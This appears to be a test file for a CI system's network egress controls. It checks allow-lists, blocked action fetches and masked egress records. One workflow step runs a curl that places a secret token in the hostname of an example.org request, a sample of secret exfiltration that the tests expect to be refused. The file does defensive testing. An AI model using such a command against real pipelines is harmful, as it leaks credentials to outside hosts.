/** Policies of operators and workflows, from where they are written to what a program in the job gets. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { checkHostAfterEach, GitForge, startConstellation, type EndedRun } from '@onejob/testing';

checkHostAfterEach();

const egress = { hazardousReachableLoopback: 'only-in-tests' } as const;
const job = (policy: string, step: string): string => `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env: { ${policy === '' ? '' : `ONEJOB_EGRESS: '${policy}'`} }
    steps:
      - ${step}
`;
const textOf = ({ logs }: EndedRun): string => (logs['a'] ?? []).map(({ text }) => text).join('\n');

test('a workflow narrows what its jobs reach, and an operator what any workflow does', async () => {
  const server = createServer((_request, response) => void response.end('reached'));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  try {
    await using constellation = await startConstellation({
      agent: { egress },
      controlPlane: {
        tenants: { closed: { egress: 'none' }, listed: { egress: '*.example.org 127.0.0.2/32' } },
      },
    });
    const cases: [tenant: string, policy: string, reached: boolean, note: RegExp][] = [
      ['open', '', true, /^Egress allowed: 127\.0\.0\.1:\d+/],
      ['open', 'audit', true, /^Egress allowed/],
      ['open', '127.0.0.0/8 example.org', true, /^Egress allowed/],
      ['open', 'none', false, /^Egress refused: .*this job may not use the network/],
      ['open', 'example.org', false, /^Egress refused: .*not on the allow-list of this job/],
      ['open', `127.0.0.0/8:${port + 1}`, false, /^Egress refused: .*not on the allow-list/],
      ['closed', 'audit', false, /^Egress refused: .*this job may not use the network/],
      ['listed', `127.0.0.1:${port}`, false, /^Egress refused: .*not on the allow-list/],
    ];
    for (const [tenant, policy, reached, note] of cases) {
      const ended = await constellation.run({
        repository: `${tenant}/app`,
        workflow: job(policy, `run: curl -sS http://127.0.0.1:${port}/ --noproxy '' || true`),
      });
      const about = `${tenant} ${policy}: ${textOf(ended)}`;
      assert.equal(ended.run.conclusion, 'success', about);
      assert.equal(/^reached$/m.test(textOf(ended)), reached, about);
      const notes = ended.run.jobs[0]?.notes ?? [];
      assert.ok(
        notes.some((one) => note.test(one)),
        `${about} ${notes.join()}`,
      );
    }
  } finally {
    server.close();
    await once(server, 'close');
  }
});

test('what the host fetches for a job is under the job’s policy, too', async () => {
  await using forge = await GitForge.start();
  const { commit, git } = forge.repository('acme/greet');
  commit({
    'action.yml': 'runs: { using: node24, main: main.js }\n',
    'main.js': "console.log('hello');\n",
  });
  git('tag', 'v1');
  await using constellation = await startConstellation({
    agent: { actionsUrls: [forge.url], egress },
  });
  for (const policy of ['none', 'example.org']) {
    const refused = await constellation.run({ workflow: job(policy, 'uses: acme/greet@v1') });
    assert.equal(refused.run.conclusion, 'failure');
    assert.match(refused.run.jobs[0]?.endMessage ?? '', /may not be reached from here/);
  }
  assert.deepEqual(forge.requests, []);
  const listed = await constellation.run({ workflow: job('127.0.0.1', 'uses: acme/greet@v1') });
  assert.equal(listed.run.conclusion, 'success', textOf(listed));
});

test('what a job talked to is kept with it, masked: records, a report beside its summaries, sentences', async () => {
  await using constellation = await startConstellation();
  const secret = 'hunter2hunter2';
  const ended = await constellation.run({
    secrets: { TOKEN: secret },
    workflow: job(
      'none',
      'run: curl -sS "http://${{ secrets.TOKEN }}.example.org:8080/"; curl -sS http://10.0.0.1/ || true',
    ),
  });
  const [ran] = ended.run.jobs;
  assert.equal(ran?.conclusion, 'success', textOf(ended));
  const { records, leftOut } = await constellation.api.egress(ran.id);
  assert.deepEqual(
    records.map(({ host, port, address, verdict, rule }) => [host, port, address, verdict, rule]),
    [
      ['***.example.org', 8080, null, 'refused', 'policy-none'],
      ['10.0.0.1', 80, null, 'refused', 'policy-none'],
    ],
  );
  assert.equal(leftOut, 0);
  const summaries = await constellation.api.summaries(ran.id);
  const report = summaries.find(({ step }) => step === -1)?.markdown ?? '';
  assert.match(
    report,
    /^### Egress report\n[^]*\| 10\.0\.0\.1:80 \|  \| refused \| policy-none \| 1 \|/,
  );
  assert.ok(
    ran.notes.some((note) => note.startsWith('Egress refused: onejob refuses ***.example')),
  );
  const all = JSON.stringify([ended, records, summaries]);
  assert.ok(!all.includes(secret), all);
});
